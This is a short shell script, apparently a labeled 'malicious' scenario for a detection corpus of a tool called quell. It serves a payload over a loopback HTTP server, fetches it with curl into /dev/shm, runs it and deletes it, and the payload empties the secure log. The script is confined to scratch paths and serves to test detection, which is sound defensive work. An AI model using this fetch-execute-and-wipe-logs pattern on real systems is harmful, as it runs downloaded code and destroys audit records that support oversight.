#!/bin/sh
# quell labeled corpus scenario (malicious): a payload downloaded to /dev/shm empties the secure log
# Run by ../../record-corpus.sh under `quell run --record`; uses only the scratch paths it is given
# ($S below /var/log, $W below /tmp, $E below /etc, $B fake program names), loopback only.
set -u
touch $S/secure
mkdir -p $W/srv; printf "#!/bin/sh\n: > %s\n" "$S/secure" > $W/srv/payload
python3 -m http.server --bind 127.0.0.1 $P --directory $W/srv >/dev/null 2>&1 &
SRV=$!
sleep 0.7
curl -s -o /dev/shm/quell-corpus-p http://127.0.0.1:$P/payload; chmod +x /dev/shm/quell-corpus-p; /dev/shm/quell-corpus-p; rm -f /dev/shm/quell-corpus-p
kill $SRV 2>/dev/null; wait $SRV 2>/dev/null

